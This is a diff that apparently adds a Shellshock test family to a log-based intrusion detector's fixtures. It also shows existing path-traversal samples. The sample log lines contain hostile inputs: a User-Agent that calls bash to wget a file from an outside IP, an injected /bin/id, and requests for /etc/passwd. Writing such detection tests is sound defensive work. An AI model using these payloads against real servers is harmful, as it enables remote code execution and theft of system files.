@@ -213,6 +213,17 @@ FAMILIES = {
     ], [
         _OK + '/downloads/cmd.exe-guide.html HTTP/1.1" 200 1024 "-" "Mozilla/5.0"',
     ]),
+    "web Shellshock": ((0x7010,), [
+        _WEB + '/cgi-bin/status HTTP/1.1" 200 1024 "-" "() { :; }; /bin/bash -c \\"wget'
+        ' http://61.2.3.4/x\\""',
+        _WEB + '/ HTTP/1.1" 200 1024 "() { ignored; }; echo; /bin/id" "Mozilla/5.0"',
+        "[Thu Sep 25 09:27:18.813902 2014] [cgi:error] [pid 16860] [client 61.2.3.4:59635]"
+        " AH01215: /bin/bash: warning: HTTP_TEST: ignoring function definition attempt",
+        "[Thu Sep 25 09:29:56.141832 2014] [cgi:error] [pid 16864] [client 61.2.3.4:41273]"
+        " AH01215: /bin/bash: error importing function definition for `HTTP_TEST'",
+    ], [
+        _OK + '/docs/bash-functions.html?q=() HTTP/1.1" 200 1024 "-" "Mozilla/5.0 (X11)"',
+    ]),
     "web traversal": ((0x7011,), [
         _WEB + '/cgi-bin/view.cgi?file=../../../../etc/passwd HTTP/1.1" 400 1024 "-" "curl/7.1"',
         _WEB + '/index.php?page=%2e%2e%2f%2e%2e%2fetc%2fpasswd HTTP/1.1" 200 1024 "-" "M"',
